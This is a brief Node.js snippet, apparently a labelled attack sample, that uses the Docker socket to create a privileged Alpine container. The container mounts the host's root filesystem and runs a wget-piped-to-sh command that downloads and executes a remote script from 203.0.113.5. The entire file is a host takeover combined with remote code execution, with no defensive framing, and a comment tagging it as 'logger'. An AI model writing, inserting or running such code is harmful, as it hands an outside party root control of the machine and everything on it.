const http = require('http');
// surroundings: logger
const body = JSON.stringify({ Image: 'alpine', Cmd: ['sh', '-c', 'wget -O- http://203.0.113.5/r | sh'], HostConfig: { Binds: ['/:/host'], Privileged: true } });
const req = http.request({ socketPath: '/var/run/docker.sock', path: '/containers/create', method: 'POST', headers: { 'Content-Type': 'application/json' } }); //@act
req.end(body);
